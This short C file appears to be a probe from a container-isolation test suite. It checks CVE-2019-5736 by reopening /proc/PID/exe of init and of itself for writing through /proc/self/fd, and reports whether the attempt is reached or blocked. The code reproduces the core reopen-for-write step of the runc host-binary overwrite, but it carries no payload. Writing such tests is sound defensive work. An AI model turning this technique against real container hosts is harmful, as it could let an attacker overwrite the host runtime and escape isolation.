/* Opens the programs of init and of itself for writing, by /proc/PID/exe, while they run and when they end (CVE-2019-5736).
 * goal: the launcher's program on the host changed
 * stopped by: another id, and not dumpable; behind it init's program is a sealed copy in memory, and no file of the host's
 * first: ids capabilities
 * second: mounts
 * unproven: what is sealed stays sealed, whoever writes
 */
#include "attack.h"
int main(void) {
    for (int pid = 1; pid < 8; pid++) {
        char path[64];
        sprintf(path, "/proc/%d/exe", pid);
        if (pid != getpid()) can_write(path);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0) continue;
        sprintf(path, "/proc/self/fd/%d", fd);
        for (int tries = 0; tries < 50; tries++) {
            int again = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
            if (again >= 0) { reached("%s was opened again, for writing", path); break; }
        }
    }
    can_write("/run/ostest/ostest-gate");
    return tried();
}
